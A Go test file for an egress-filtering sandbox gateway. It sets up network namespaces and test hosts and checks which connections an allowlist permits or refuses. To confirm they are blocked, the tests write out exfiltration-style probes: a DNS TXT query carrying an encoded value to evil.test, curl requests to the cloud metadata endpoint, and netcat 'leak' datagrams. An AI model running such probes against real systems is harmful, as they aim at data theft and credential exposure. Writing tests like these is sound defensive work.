package netstack_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/airlockhq/airlock/egress"
	"github.com/airlockhq/airlock/egress/netstack"
	"github.com/airlockhq/airlock/internal/testnet"
	"github.com/airlockhq/airlock/profile"
)

// The test hosts of this package. 198.51.100.0/24 and 2001:db8:a1::/64 are
// documentation prefixes that count as public addresses (so names may
// resolve to them); they exist only on the veth pair the test creates.
const (
	publicNet4  = "198.51.100.0/24"
	publicNet6  = "2001:db8:a1::/64"
	privateNet4 = "10.213.11.0/24"
	privateNet6 = "fd00:a1:11::/64"
	// unlisted is a second address of the public test host that no DNS
	// answer contains.
	unlisted = "198.51.100.3"
)

// envGet makes the test binary a plain net/http client (see TestMain).
const envGet = "AIRLOCK_EGRESS_TEST_GET"

// TestMain lets the test binary double as a Go HTTP client that ignores
// proxy variables (Transport.Proxy nil), run inside the sandbox's
// namespace.
func TestMain(m *testing.M) {
	if url := os.Getenv(envGet); url != "" {
		c := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{Proxy: nil}}
		resp, err := c.Get(url)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		io.Copy(os.Stdout, resp.Body)
		os.Exit(0)
	}
	os.Exit(m.Run())
}

// lab is one gateway serving a TAP in a namespace that stands for the
// sandbox, a public and a private test host, and an upstream DNS server.
type lab struct {
	sbx      *testnet.Netns
	pub      *testnet.Host
	priv     *testnet.Host
	dns      *testnet.DNSServer
	gw       egress.Gateway
	caPath   string
	http8081 *testnet.CountingListener
	udpSink  net.PacketConn

	mu      sync.Mutex
	denials []egress.Denial
	dials   []string // every address the gateway dialled on the host
}

const hello = "hello from the test host\n"

func newLab(t *testing.T, mode string, allow ...string) *lab {
	testnet.Require(t)
	l := &lab{}
	l.pub = testnet.NewHost(t, publicNet4, publicNet6)
	testnet.IP(t, "-n", l.pub.Name, "addr", "add", unlisted+"/32", "dev", "lo")
	testnet.IP(t, "route", "add", unlisted+"/32", "dev", l.pub.Link)
	l.priv = testnet.NewHost(t, privateNet4, privateNet6)
	p4, p6 := l.pub.Addr4, l.pub.Addr6
	l.dns = testnet.NewDNSServer(t, l.pub, map[string][]netip.Addr{
		"allowed.test.":  {p4, p6},
		"other.test.":    {p4},
		"evil.test.":     {p4},
		"api.wild.test.": {p4},
		"wild.test.":     {p4},
		"loop.test.":     {netip.MustParseAddr("127.0.0.1")},
		"meta.test.":     {netip.MustParseAddr("169.254.169.254")},
		"meta6.test.":    {netip.MustParseAddr("fd00:ec2::254")},
		"private.test.":  {l.priv.Addr4},
		"ula.test.":      {l.priv.Addr6},
		"sixonly.test.":  {p6},
		"rebind.test.":   {p4},
	})

	ca := testnet.NewCA(t)
	l.caPath = ca.WritePEM(t, t.TempDir())
	mux := http.NewServeMux()
	mux.HandleFunc("/hello", func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, hello) })
	repo := bareRepo(t)
	mux.Handle("/repo.git/", http.StripPrefix("/repo.git/", http.FileServer(http.Dir(repo))))
	serve := func(ln net.Listener) {
		srv := &http.Server{Handler: mux}
		go srv.Serve(ln)
		t.Cleanup(func() { srv.Close() })
	}
	serve(l.pub.ListenTCP(t, "", 80))
	serve(l.pub.ListenTCP(t, "", 8443))
	serve(l.priv.ListenTCP(t, "", 8080))
	serve(l.priv.ListenTCP(t, "", 80))
	l.http8081 = testnet.Count(l.pub.ListenTCP(t, "", 8081))
	serve(l.http8081)
	tlsLn := tls.NewListener(l.pub.ListenTCP(t, "", 443), &tls.Config{Certificates: []tls.Certificate{ca.Issue(t, []string{"allowed.test"})}})
	serve(tlsLn)
	echo := l.pub.ListenTCP(t, "", 7)
	go func() {
		for {
			c, err := echo.Accept()
			if err != nil {
				return
			}
			go func() { io.Copy(c, c); c.Close() }()
		}
	}()
	l.udpSink = l.pub.ListenUDP(t, "", 5353)

	l.sbx = testnet.NewNetns(t, "airlock-sbx-")
	tap := createTAP(t, l.sbx)
	n := l.sbx.Name
	// The gateway knows the sandbox by SandboxMAC (a static neighbour),
	// as the stage-2 helper sets it up.
	testnet.IP(t, "-n", n, "link", "set", egress.TapName, "address", egress.SandboxMAC, "mtu", fmt.Sprint(egress.MTU), "up")
	testnet.IP(t, "-n", n, "addr", "add", egress.SandboxIPv4+"/32", "dev", egress.TapName)
	testnet.IP(t, "-n", n, "route", "add", egress.GatewayIPv4+"/32", "dev", egress.TapName)
	testnet.IP(t, "-n", n, "route", "add", "default", "via", egress.GatewayIPv4, "dev", egress.TapName)
	testnet.IP(t, "-n", n, "addr", "add", egress.SandboxIPv6+"/128", "dev", egress.TapName, "nodad")
	testnet.IP(t, "-n", n, "route", "add", egress.GatewayIPv6+"/128", "dev", egress.TapName)
	testnet.IP(t, "-n", n, "route", "add", "default", "via", egress.GatewayIPv6, "dev", egress.TapName)
	l.sbx.SetResolvConf(t, egress.GatewayIPv4)

	pol, err := egress.Compile(profile.NetworkSpec{Mode: mode, Allow: allow})
	if err != nil {
		t.Fatal(err)
	}
	dialer := &net.Dialer{Timeout: 5 * time.Second, Control: func(_, address string, _ syscall.RawConn) error {
		l.mu.Lock()
		l.dials = append(l.dials, address)
		l.mu.Unlock()
		return nil
	}}
	before := testnet.GatewayGoroutines()
	onDenial := func(d egress.Denial) {
		l.mu.Lock()
		l.denials = append(l.denials, d)
		l.mu.Unlock()
	}
	if viaRemote {
		l.gw, err = serveRemote(t, tap, egress.Config{Policy: pol, OnDenial: onDenial}, egress.Config{Resolver: l.dns.Resolver(), Dialer: dialer})
	} else {
		l.gw, err = netstack.Serve(tap, egress.Config{Policy: pol, Resolver: l.dns.Resolver(), Dialer: dialer, OnDenial: onDenial})
	}
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := l.gw.Close(); err != nil {
			t.Errorf("close gateway: %v", err)
		}
		if left := testnet.WaitGatewayGoroutines(len(before)); left != "" {
			t.Errorf("goroutines of the gateway left after Close:\n%s", left)
		}
	})
	return l
}

func createTAP(t *testing.T, ns *testnet.Netns) *os.File {
	t.Helper()
	var tap *os.File
	err := ns.Do(func() error {
		fd, err := unix.Open("/dev/net/tun", unix.O_RDWR|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		ifr, err := unix.NewIfreq(egress.TapName)
		if err != nil {
			return err
		}
		ifr.SetUint16(unix.IFF_TAP | unix.IFF_NO_PI)
		if err := unix.IoctlIfreq(fd, unix.TUNSETIFF, ifr); err != nil {
			unix.Close(fd)
			return fmt.Errorf("TUNSETIFF: %w", err)
		}
		tap = os.NewFile(uintptr(fd), "tap")
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return tap
}

// bareRepo makes a bare git repository served over dumb HTTP.
func bareRepo(t *testing.T) string {
	t.Helper()
	testnet.RequireTools(t, "git")
	dir := t.TempDir()
	src, bare := filepath.Join(dir, "src"), filepath.Join(dir, "repo.git")
	script := `set -e
git init -q "$1" && cd "$1" && echo egress > README && git add README
git -c user.email=t@t -c user.name=t commit -qm first
git clone -q --bare "$1" "$2" && git -C "$2" update-server-info`
	if out, err := exec.Command("sh", "-c", script, "sh", src, bare).CombinedOutput(); err != nil {
		t.Fatalf("make repo: %v: %s", err, out)
	}
	return bare
}

// run runs a client in the sandbox's namespace.
func (l *lab) run(t *testing.T, name string, args ...string) (string, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := l.sbx.Command(name, args...)
	cmd = exec.CommandContext(ctx, cmd.Path, cmd.Args[1:]...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	return out.String(), err
}

func (l *lab) mustRun(t *testing.T, want string, name string, args ...string) {
	t.Helper()
	out, err := l.run(t, name, args...)
	if err != nil || !strings.Contains(out, want) {
		t.Fatalf("%s %s: want %q in output, got %v:\n%s", name, strings.Join(args, " "), want, err, out)
	}
}

func (l *lab) mustFail(t *testing.T, name string, args ...string) string {
	t.Helper()
	out, err := l.run(t, name, args...)
	if err == nil {
		t.Fatalf("%s %s succeeded, want a refusal:\n%s", name, strings.Join(args, " "), out)
	}
	return out
}

// denied waits briefly for a denial whose line contains want.
func (l *lab) denied(t *testing.T, want string) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	for {
		l.mu.Lock()
		var lines []string
		for _, d := range l.denials {
			lines = append(lines, d.String())
		}
		l.mu.Unlock()
		for _, s := range lines {
			if strings.Contains(s, want) {
				return
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("no denial containing %q; denials:\n%s", want, strings.Join(lines, "\n"))
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func (l *lab) dialled(addr string) bool {
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, d := range l.dials {
		if strings.HasPrefix(d, addr) || strings.HasPrefix(d, "["+addr+"]") {
			return true
		}
	}
	return false
}

func TestGatewayAllowlist(t *testing.T) {
	testnet.RequireTools(t, "curl", "wget", "python3", "git", "nc", "dig", "nslookup")
	l := newLab(t, profile.NetworkModeAllow,
		"allowed.test", "allowed.test:7", "*.wild.test:80", "sixonly.test",
		"[2001:db8:a1::2]:8443", "10.213.11.2:8080", "private.test", "ula.test", "loop.test", "meta.test", "meta6.test")
	url := "http://allowed.test/hello"

	t.Run("curl", func(t *testing.T) { l.mustRun(t, hello, "curl", "-sS", "--max-time", "10", url) })
	t.Run("curl https with a test CA", func(t *testing.T) {
		l.mustRun(t, hello, "curl", "-sS", "--max-time", "10", "--cacert", l.caPath, "https://allowed.test/hello")
	})
	t.Run("wget", func(t *testing.T) { l.mustRun(t, hello, "wget", "-qO-", "-T", "10", url) })
	t.Run("python3 urllib", func(t *testing.T) {
		l.mustRun(t, hello, "python3", "-c", "import urllib.request,sys; sys.stdout.write(urllib.request.urlopen(sys.argv[1], timeout=10).read().decode())", url)
	})
	t.Run("Go net/http with Proxy nil ignores proxy variables", func(t *testing.T) {
		exe, _ := os.Executable()
		// A proxy variable that would lead nowhere: the client ignores
		// it, and the gateway still filters its connections.
		l.mustRun(t, hello, "env", envGet+"="+url, "HTTP_PROXY=http://10.0.2.2:3128", "http_proxy=http://10.0.2.2:3128", exe)
		out := l.mustFail(t, "env", envGet+"=http://evil.test/hello", "HTTP_PROXY=http://10.0.2.2:3128", exe)
		if !strings.Contains(out, "no such host") {
			t.Errorf("want a DNS refusal, got %s", out)
		}
		l.mustFail(t, "env", envGet+"=http://"+unlisted+"/hello", "HTTP_PROXY=http://10.0.2.2:3128", exe)
		l.denied(t, "blocked connect to "+unlisted+":80 (not in allowlist)")
	})
	t.Run("git clone over http", func(t *testing.T) {
		dst := filepath.Join(t.TempDir(), "clone")
		l.mustRun(t, "", "git", "clone", "-q", "http://allowed.test/repo.git", dst)
		if b, err := os.ReadFile(filepath.Join(dst, "README")); err != nil || string(b) != "egress\n" {
			t.Fatalf("clone: %q %v", b, err)
		}
	})
	t.Run("nc raw tcp", func(t *testing.T) {
		l.mustRun(t, "ping-pong", "sh", "-c", "echo ping-pong | nc -q 1 -w 5 allowed.test 7")
	})
	t.Run("dig and nslookup", func(t *testing.T) {
		l.mustRun(t, l.pub.Addr4.String(), "dig", "+short", "+time=3", "+tries=1", "allowed.test", "A")
		l.mustRun(t, l.pub.Addr6.String(), "dig", "+short", "+time=3", "+tries=1", "allowed.test", "AAAA")
		l.mustRun(t, l.pub.Addr4.String(), "dig", "+short", "+tcp", "+time=3", "+tries=1", "allowed.test", "A")
		l.mustRun(t, l.pub.Addr4.String(), "nslookup", "allowed.test")
		l.mustRun(t, "status: NXDOMAIN", "dig", "+time=3", "+tries=1", "evil.test", "A")
	})

	t.Run("other port on the allowed host is refused", func(t *testing.T) {
		out := l.mustFail(t, "curl", "-sS", "--max-time", "5", "http://allowed.test:8081/hello")
		if !strings.Contains(out, "connect") && !strings.Contains(out, "reset") {
			t.Errorf("curl: want a refused connection, got %s", out)
		}
		l.denied(t, "blocked connect to allowed.test:8081 (port 8081 is not allowed for allowed.test; allowed: 7, 80, 443)")
		if n := l.http8081.Accepted(); n != 0 {
			t.Fatalf("the test host accepted %d connections on port 8081", n)
		}
		if l.dialled(l.pub.Addr4.String() + ":8081") {
			t.Fatal("the gateway dialled port 8081")
		}
	})
	t.Run("non-allowed host is refused before any query leaves", func(t *testing.T) {
		out := l.mustFail(t, "curl", "-sS", "--max-time", "5", "http://evil.test/hello")
		if !strings.Contains(out, "resolve") {
			t.Errorf("curl: want a resolution failure, got %s", out)
		}
		l.denied(t, "blocked DNS lookup of evil.test (not in allowlist)")
		l.mustFail(t, "curl", "-sS", "--max-time", "5", "http://"+unlisted+"/hello")
		l.denied(t, "blocked connect to "+unlisted+":80 (not in allowlist)")
		if l.dialled(unlisted) {
			t.Fatal("the gateway dialled an address nobody allowed")
		}
	})
	t.Run("TXT query for a non-allowed name never reaches the upstream", func(t *testing.T) {
		l.mustRun(t, "status: NXDOMAIN", "dig", "+time=3", "+tries=1", "exfil-c2vjcmv0.evil.test", "TXT")
		l.mustRun(t, "status: NOERROR", "dig", "+time=3", "+tries=1", "allowed.test", "TXT")
		for _, q := range l.dns.Log() {
			if strings.Contains(q, "evil.test") || strings.HasSuffix(q, " TXT") {
				t.Fatalf("the upstream was asked %q; it was asked: %v", q, l.dns.Log())
			}
		}
		l.denied(t, "blocked DNS lookup of exfil-c2vjcmv0.evil.test (not in allowlist)")
	})
	t.Run("names resolving to loopback or metadata are refused", func(t *testing.T) {
		for _, c := range []struct{ name, addr, class string }{
			{"loop.test", "127.0.0.1", "a loopback address"},
			{"meta.test", "169.254.169.254", "a cloud metadata address"},
			{"meta6.test", "fd00:ec2::254", "a cloud metadata address"},
			{"ula.test", l.priv.Addr6.String(), "a unique local (ULA) address"},
		} {
			out := l.mustFail(t, "curl", "-sS", "--max-time", "5", "http://"+c.name+"/")
			if !strings.Contains(out, "resolve") {
				t.Errorf("%s: want a resolution failure, got %s", c.name, out)
			}
			l.denied(t, fmt.Sprintf("blocked DNS lookup of %s (resolves to %s, %s", c.name, c.addr, c.class))
		}
		l.mustFail(t, "curl", "-sS", "--max-time", "5", "http://169.254.169.254/latest/meta-data/")
		l.denied(t, "blocked connect to 169.254.169.254:80 (169.254.169.254 is a cloud metadata address")
		l.mustFail(t, "curl", "-sS", "--max-time", "5", "-g", "http://[fd00:ec2::254]/")
		l.denied(t, "blocked connect to [fd00:ec2::254]:80")
		for _, a := range []string{"127.0.0.1", "169.254.169.254", "fd00:ec2::254", l.priv.Addr4.String() + ":80"} {
			if l.dialled(a) {
				t.Fatalf("the gateway dialled %s", a)
			}
		}
	})
	t.Run("UDP to an allowed host is refused", func(t *testing.T) {
		// nc's exit status after a refused datagram varies; the evidence
		// is the denial and the test host's silence.
		l.run(t, "sh", "-c", "echo leak | nc -u -w 1 allowed.test 5353")
		l.denied(t, "blocked UDP to allowed.test:5353 (UDP other than DNS needs an entry like allowed.test:5353/udp; allowed.test has TCP entries only")
		l.udpSink.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
		if n, _, err := l.udpSink.ReadFrom(make([]byte, 64)); err == nil {
			t.Fatalf("the test host received a datagram of %d bytes", n)
		}
	})
	t.Run("IPv6 literal rules", func(t *testing.T) {
		l.mustRun(t, hello, "curl", "-sS", "--max-time", "5", "-g", "http://[2001:db8:a1::2]:8443/hello")
		l.mustFail(t, "curl", "-sS", "--max-time", "5", "-g", "http://[2001:db8:a1::2]:8081/hello")
		// The address is also allowed.test's, so the refusal names it.
		l.denied(t, "blocked connect to allowed.test:8081 (port 8081 is not allowed for allowed.test; allowed: 7, 80, 443, 8443)")
		l.mustRun(t, hello, "curl", "-sS", "-6", "--max-time", "5", url)
		l.mustRun(t, hello, "curl", "-sS", "--max-time", "5", "http://sixonly.test/hello")
	})
	t.Run("private literal allowed exactly", func(t *testing.T) {
		l.mustRun(t, hello, "curl", "-sS", "--max-time", "5", "http://10.213.11.2:8080/hello")
		l.mustFail(t, "curl", "-sS", "--max-time", "5", "http://10.213.11.2:80/hello")
		l.denied(t, "blocked connect to 10.213.11.2:80 (port 80 is not allowed for 10.213.11.2; allowed: 8080)")
		// A name may lead to a private address only when that exact
		// literal is allowed, and then only on the literal's ports.
		l.mustRun(t, hello, "curl", "-sS", "--max-time", "5", "http://private.test:8080/hello")
		l.mustFail(t, "curl", "-sS", "--max-time", "5", "http://private.test/hello")
		l.denied(t, "blocked connect to private.test:80 (port 80 is not allowed for 10.213.11.2; allowed: 8080)")
	})
	t.Run("wildcard", func(t *testing.T) {
		l.mustRun(t, hello, "curl", "-sS", "--max-time", "5", "http://api.wild.test/hello")
		l.mustFail(t, "curl", "-sS", "--max-time", "5", "http://wild.test/hello")
		l.denied(t, "blocked DNS lookup of wild.test (not in allowlist)")
	})
	t.Run("ICMP beyond the gateway", func(t *testing.T) {
		testnet.RequireTools(t, "ping")
		l.mustRun(t, "1 received", "ping", "-c", "1", "-W", "2", egress.GatewayIPv4)
		l.mustFail(t, "ping", "-c", "1", "-W", "1", l.pub.Addr4.String())
		l.denied(t, "blocked ICMP to "+l.pub.Addr4.String())
	})
}

func TestGatewayPublicMode(t *testing.T) {
	testnet.RequireTools(t, "curl")
	l := newLab(t, profile.NetworkModeAll, "10.213.11.2:8080")
	l.mustRun(t, hello, "curl", "-sS", "--max-time", "5", "http://evil.test:8081/hello")
	l.mustRun(t, hello, "curl", "-sS", "--max-time", "5", "http://"+unlisted+"/hello")
	l.mustRun(t, hello, "curl", "-sS", "--max-time", "5", "http://10.213.11.2:8080/hello")
	for _, u := range []string{"http://169.254.169.254/", "http://10.213.11.2/", "http://meta.test/", "http://loop.test/"} {
		l.mustFail(t, "curl", "-sS", "--max-time", "5", u)
	}
	l.denied(t, "blocked connect to 169.254.169.254:80 (169.254.169.254 is a cloud metadata address")
	l.denied(t, "blocked connect to 10.213.11.2:80 (port 80 is not allowed for 10.213.11.2; allowed: 8080)")
	l.denied(t, "blocked DNS lookup of meta.test (resolves to 169.254.169.254")
	l.denied(t, "blocked DNS lookup of loop.test (resolves to 127.0.0.1")

	// UDP to a public address is relayed both ways; to a private one it
	// is refused.
	testnet.RequireTools(t, "nc")
	go func() {
		buf := make([]byte, 64)
		l.udpSink.SetReadDeadline(time.Now().Add(10 * time.Second))
		n, from, err := l.udpSink.ReadFrom(buf)
		if err == nil {
			l.udpSink.WriteTo(append([]byte("echo "), buf[:n]...), from)
		}
	}()
	l.mustRun(t, "echo datagram", "sh", "-c", "echo datagram | nc -u -w 2 "+l.pub.Addr4.String()+" 5353")
	l.run(t, "sh", "-c", "echo leak | nc -u -w 1 10.213.11.2 5353")
	l.denied(t, "blocked UDP to 10.213.11.2:5353 (UDP other than DNS needs an entry like 10.213.11.2:5353/udp; 10.213.11.2 has TCP entries only (8080))")
	l.run(t, "sh", "-c", "echo leak | nc -u -w 1 169.254.169.254 53")
	l.denied(t, "blocked UDP to 169.254.169.254:53 (169.254.169.254 is a cloud metadata address")
}

// TestGatewayClose shows a long-lived connection ends with the gateway,
// and that nothing of it stays: no goroutine (checked by newLab's
// cleanup), no TAP device, no connection on the test host.
func TestGatewayClose(t *testing.T) {
	testnet.RequireTools(t, "nc")
	l := newLab(t, profile.NetworkModeAllow, "allowed.test:7")
	cmd := l.sbx.Command("nc", "allowed.test", "7")
	stdin, _ := cmd.StdinPipe()
	stdout, _ := cmd.StdoutPipe()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	fmt.Fprintln(stdin, "first")
	echoed := make(chan string, 1)
	go func() {
		line, _ := bufio.NewReader(stdout).ReadString('\n')
		echoed <- line
		io.Copy(io.Discard, stdout)
	}()
	select {
	case line := <-echoed:
		if line != "first\n" {
			t.Fatalf("no echo: %q", line)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("no echo within 5s")
	}
	if err := l.gw.Close(); err != nil {
		t.Fatal(err)
	}
	waited := make(chan error, 1)
	go func() { waited <- cmd.Wait() }()
	select {
	case <-waited:
	case <-time.After(5 * time.Second):
		cmd.Process.Kill()
		t.Fatal("nc still connected 5s after the gateway closed")
	}
	if out, err := exec.Command("ip", "-n", l.sbx.Name, "link", "show", egress.TapName).CombinedOutput(); err == nil {
		t.Fatalf("the TAP device outlived the gateway:\n%s", out)
	}
}
